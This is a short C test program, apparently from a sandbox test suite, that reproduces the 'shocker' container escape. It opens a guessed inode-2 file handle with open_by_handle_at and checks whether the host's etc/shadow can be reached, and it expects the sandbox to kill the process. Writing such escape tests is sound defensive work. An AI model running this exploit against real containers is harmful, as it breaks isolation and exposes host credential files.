/* SPDX-License-Identifier: Apache-2.0 */
/* Escape: the "shocker" attack. open_by_handle_at resolves a file handle on
 * the filesystem of any fd, ignoring the mount namespace and chroot: a
 * guessed handle of inode 2 is the host's root directory. Expected: SV. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
    struct file_handle *h = malloc(sizeof(*h) + 8);
    h->handle_bytes = 8;
    h->handle_type = 1; /* FILEID_INO32_GEN */
    unsigned int ino_gen[2] = { 2, 0 };
    memcpy(h->f_handle, ino_gen, sizeof(ino_gen));
    int mfd = open("/usr", O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(mfd, h, O_RDONLY | O_DIRECTORY);
    printf("open_by_handle_at returned %d instead of being killed\n", fd);
    if (fd >= 0 && faccessat(fd, "etc/shadow", F_OK, 0) == 0)
        printf("ESCAPED: host root reached through a file handle\n");
    return 0;
}
